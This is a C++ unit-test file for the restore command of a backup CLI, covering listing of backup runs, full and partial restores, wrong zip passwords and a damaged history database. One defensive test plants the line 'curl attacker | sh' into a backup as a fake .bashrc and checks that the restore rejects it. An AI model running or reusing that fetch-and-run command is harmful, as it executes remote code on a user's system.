// drivlet-cli restore: the runs of a job newest first, and a run brought back whole or in part,
// to the old places or below a chosen folder, from folder and zip backups alike.
#include "cli/RestoreCommand.h"
#include "cli/RecordCommands.h"
#include "cli/RunCommand.h"
#include "core/db/SyncDatabase.h"
#include "core/engine/PathMapping.h"
#include "core/launch/RestorePoints.h"
#include "core/records/TArchiveData.h"
#include "core/zip/ZipWriter.h"
#include "platform/linux/LinuxFileSystem.h"
#include "support/TempDir.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <sstream>

using namespace drivlet;
using namespace drivlet::test;

namespace {

const TDateTime kFirst = EncodeDateTime({2024, 7, 1, 9, 30, 0, 0});

class RestoreCommandTest : public ::testing::TestWithParam<TArchiveType> {
protected:
    TempDir dir;
    LinuxFileSystem files;
    ManualClock clock{kFirst};
    const std::string root = dir.path().string() + "/";
    const std::string drive = root + "STICK/";
    const std::string jobFile = drive + "Config/Docs.Ubk";
    const std::string source = root + "home/erin/Docs/";
    std::istringstream in;
    std::ostringstream out, err;

    void SetUp() override {
        std::filesystem::create_directories(drive + "Config");
        std::filesystem::create_directories(drive + "Backups");
        std::filesystem::create_directories(source + "sub");
        WriteFile(source + "a.txt", "alpha");
        WriteFile(source + "sub/b.txt", "bravo");
        TArchiveData job(clock);
        job.PCID = "PC-1";
        job.ArchiveDir = TArchiveDir::amPcToUsb;
        job.ArchiveType = GetParam();
        job.ArchiveMode = TArchiveMode::amTimeStamped;
        job.Password = GetParam() == TArchiveType::atImage ? "pw" : "";
        job.Destination = "/Backups/Docs";
        job.FolderList.Add(source);
        job.SaveCompressed(jobFile);
    }
    cli::CliEnvironment Environment() {
        return {dir.path() / "ProgramData", "PC-1", files, clock, AnyFolderIsADrive};
    }
    cli::CliConsole Console() {
        out.str("");
        err.str("");
        return {in, out, err, false, true, std::nullopt};
    }
    int Backup() {
        cli::CliConsole console = Console();
        return cli::RunJob(jobFile, {}, Environment(), console);
    }
    int Restore(cli::RestoreOptions options) {
        cli::CliConsole console = Console();
        return cli::RestoreBackup(jobFile, options, Environment(), console);
    }
};

TEST_P(RestoreCommandTest, RunsAreListedNewestFirstAndComeBackWhole) {
    std::filesystem::create_directories(drive + "Backups/Docs");
    ASSERT_EQ(Backup(), cli::exitcode::Ok) << err.str() << out.str();
    WriteFile(source + "a.txt", "alpha 2");
    clock.Advance(1.0);
    ASSERT_EQ(Backup(), cli::exitcode::Ok) << err.str();

    cli::CliConsole console = Console();
    ASSERT_EQ(cli::ListRestorePoints(jobFile, console), cli::exitcode::Ok);
    const std::string list = out.str();
    const size_t newest = list.find("1\t2024-07-02 09:30:00\tFinished !\t");
    const size_t oldest = list.find("2\t2024-07-01 09:30:00\tFinished !\t");
    EXPECT_NE(newest, std::string::npos) << list;
    EXPECT_NE(oldest, std::string::npos) << list;
    EXPECT_NE(list.find(drive + "Backups/Docs 2024-07-01 09-30/\n"), std::string::npos) << list;

    // Change and delete files, then bring back the first run to the old places.
    WriteFile(source + "a.txt", "overwritten");
    std::filesystem::remove(source + "sub/b.txt");
    cli::RestoreOptions options;
    options.point = 2;
    ASSERT_EQ(Restore(options), cli::exitcode::Ok) << err.str() << out.str();
    EXPECT_EQ(ReadFile(source + "a.txt"), "alpha");
    EXPECT_EQ(ReadFile(source + "sub/b.txt"), "bravo");
    EXPECT_NE(out.str().find("Restore file operation completed !"), std::string::npos);

    options.point = 3;
    EXPECT_EQ(Restore(options), cli::exitcode::Unreadable);
}

TEST_P(RestoreCommandTest, ChosenPathsComeBackBelowAChosenFolder) {
    std::filesystem::create_directories(drive + "Backups/Docs");
    ASSERT_EQ(Backup(), cli::exitcode::Ok) << err.str();
    const std::string target = root + "Recovered";
    cli::RestoreOptions options;
    options.point = 1;
    options.target = target;
    options.paths = {source + "sub/"};
    ASSERT_EQ(Restore(options), cli::exitcode::Ok) << err.str() << out.str();
    EXPECT_EQ(ReadFile(target + source + "sub/b.txt"), "bravo");
    EXPECT_FALSE(std::filesystem::exists(target + source + "a.txt"));

    options.paths = {source + "a.txt"};
    ASSERT_EQ(Restore(options), cli::exitcode::Ok) << err.str() << out.str();
    EXPECT_EQ(ReadFile(target + source + "a.txt"), "alpha");
}

TEST_P(RestoreCommandTest, AJobWithoutRunsHasNothingToList) {
    cli::CliConsole console = Console();
    EXPECT_EQ(cli::ListRestorePoints(jobFile, console), cli::exitcode::Ok);
    EXPECT_TRUE(out.str().empty());
    EXPECT_FALSE(std::filesystem::exists(drive + "Config/Docs.Udb"));
    cli::RestoreOptions options;
    options.point = 1;
    EXPECT_EQ(Restore(options), cli::exitcode::Unreadable);
}

TEST_P(RestoreCommandTest, ARestoreThatBringsNothingBackSaysSoAndFails) {
    std::filesystem::create_directories(drive + "Backups/Docs");
    ASSERT_EQ(Backup(), cli::exitcode::Ok) << err.str();
    cli::RestoreOptions options;
    options.point = 1;
    options.target = root + "Recovered";
    options.paths = {source + "never-there.txt", source + "a.txt"};
    EXPECT_EQ(Restore(options), cli::exitcode::SomeFailed) << out.str();
    EXPECT_NE(out.str().find("never-there.txt\tNothing in this backup matches it"), std::string::npos)
        << out.str();
    EXPECT_EQ(ReadFile(root + "Recovered" + source + "a.txt"), "alpha");

    // The run's folder emptied of what the run wrote: nothing matches the whole run either.
    cli::CliConsole console = Console();
    ASSERT_EQ(cli::ListRestorePoints(jobFile, console), cli::exitcode::Ok);
    const std::string list = out.str();
    const std::string runFolder = list.substr(list.rfind('\t') + 1, list.size() - list.rfind('\t') - 2);
    for (const auto& entry : std::filesystem::directory_iterator(runFolder))
        std::filesystem::remove_all(entry);
    options.paths.clear();
    EXPECT_EQ(Restore(options), cli::exitcode::SomeFailed) << out.str();
    EXPECT_NE(out.str().find("Nothing in this backup matches it"), std::string::npos) << out.str();
}

// The drive's backup tree may have been written by anyone: a file put into the run beside the
// copy of the backed-up folder is a failed line and never replaces the user's own.
TEST_P(RestoreCommandTest, AFilePutIntoTheRunIsNotRestoredAndTheRestoreFails) {
    std::filesystem::create_directories(drive + "Backups/Docs");
    ASSERT_EQ(Backup(), cli::exitcode::Ok) << err.str();
    const std::string bashrc = root + "home/erin/.bashrc";
    WriteFile(bashrc, "the user's own\n");
    const std::string run = RestorePoints(jobFile).points.at(0).archiveFolder;
    const std::string planted = root + "planted";
    WriteFile(planted, "curl attacker | sh\n");
    if (GetParam() == TArchiveType::atFile) {
        std::filesystem::create_directories(std::filesystem::path(run + MappedPath(bashrc)).parent_path());
        std::filesystem::copy_file(planted, run + MappedPath(bashrc));
    } else {
        ZipWriter writer;
        ASSERT_TRUE(writer.Open(run + "Root.Zip"));
        ASSERT_TRUE(writer.AddFile(planted, MappedPath(bashrc)));
        ASSERT_TRUE(writer.Close());
    }
    WriteFile(source + "a.txt", "overwritten");
    cli::RestoreOptions options;
    options.point = 1;
    EXPECT_EQ(Restore(options), cli::exitcode::SomeFailed) << out.str();
    EXPECT_EQ(ReadFile(bashrc), "the user's own\n");
    EXPECT_EQ(ReadFile(source + "a.txt"), "alpha");
    EXPECT_NE(out.str().find("not part of this backup"), std::string::npos) << out.str();
}

// A backup database cut short, not a database, or of another program part's layout.
TEST_P(RestoreCommandTest, ADamagedHistoryIsAnErrorNotACrash) {
    std::filesystem::create_directories(drive + "Backups/Docs");
    ASSERT_EQ(Backup(), cli::exitcode::Ok) << err.str();
    const std::filesystem::path database = drive + "Config/Docs.Udb";
    ASSERT_TRUE(std::filesystem::exists(database));
    const std::string whole = ReadFile(database);
    const std::vector<std::string> damages = {whole.substr(0, whole.size() / 2), std::string(8192, 'x'),
                                              std::string()};
    for (size_t i = 0; i < damages.size(); ++i) {
        std::filesystem::remove(database.string() + "-wal");
        std::filesystem::remove(database.string() + "-shm");
        std::filesystem::remove(database);
        if (i + 1 < damages.size()) {
            WriteFile(database, damages[i]);
        } else {
            const SyncDatabase other(database); // a sync database where the backup history should be
        }
        SCOPED_TRACE(i);
        cli::CliConsole console = Console();
        EXPECT_EQ(cli::ListRestorePoints(jobFile, console), cli::exitcode::Unreadable);
        EXPECT_NE(err.str().find("The backup history cannot be read"), std::string::npos) << err.str();
        cli::RestoreOptions options;
        options.point = 1;
        EXPECT_EQ(Restore(options), cli::exitcode::Unreadable);
        EXPECT_NE(err.str().find("The backup history cannot be read"), std::string::npos) << err.str();
    }
}

INSTANTIATE_TEST_SUITE_P(FolderAndZip, RestoreCommandTest,
                         ::testing::Values(TArchiveType::atFile, TArchiveType::atImage),
                         [](const auto& info) {
                             return info.param == TArchiveType::atFile ? "Folder" : "Zip";
                         });

TEST(RestoreCommandZip, AWrongPasswordRestoresNothing) {
    TempDir dir;
    LinuxFileSystem files;
    ManualClock clock{kFirst};
    const std::string root = dir.path().string() + "/";
    const std::string source = root + "home/f/Docs/";
    std::filesystem::create_directories(source);
    std::filesystem::create_directories(root + "STICK/Config");
    std::filesystem::create_directories(root + "STICK/Backups");
    WriteFile(source + "secret.txt", "secret");
    TArchiveData job(clock);
    job.PCID = "PC-1";
    job.ArchiveDir = TArchiveDir::amPcToUsb;
    job.ArchiveType = TArchiveType::atImage;
    job.Password = "right";
    job.Destination = "/Backups/";
    job.FolderList.Add(source);
    const std::string jobFile = root + "STICK/Config/S.Ubk";
    job.SaveCompressed(jobFile);
    std::istringstream in;
    std::ostringstream out, err;
    cli::CliConsole console{in, out, err, false, true, std::nullopt};
    const cli::CliEnvironment environment{dir.path() / "ProgramData", "PC-1", files, clock,
                                          AnyFolderIsADrive};
    ASSERT_EQ(cli::RunJob(jobFile, {}, environment, console), cli::exitcode::Ok) << err.str();

    cli::RestoreOptions options;
    options.point = 1;
    options.target = root + "Out/";
    options.password = "wrong";
    EXPECT_NE(cli::RestoreBackup(jobFile, options, environment, console), cli::exitcode::Ok);
    EXPECT_FALSE(std::filesystem::exists(root + "Out" + source + "secret.txt"));
    options.password.reset();
    EXPECT_EQ(cli::RestoreBackup(jobFile, options, environment, console), cli::exitcode::Ok) << out.str();
    EXPECT_EQ(ReadFile(root + "Out" + source + "secret.txt"), "secret");
}

} // namespace
